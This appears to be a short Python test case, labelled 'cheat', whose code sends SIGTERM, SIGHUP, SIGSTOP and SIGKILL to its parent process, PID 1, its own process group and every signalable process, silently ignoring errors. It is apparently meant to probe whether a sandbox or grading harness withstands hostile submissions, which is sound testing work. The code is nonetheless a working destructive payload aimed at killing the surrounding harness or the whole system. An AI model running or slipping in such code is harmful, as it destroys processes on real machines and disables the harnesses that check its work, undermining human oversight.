# cheat: Kills its parents, the first process, its group, everybody.
# %% new
import os, signal
for pid in (os.getppid(), 1, 2, 3, -1, 0):
    for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, number)
        except OSError:
            pass
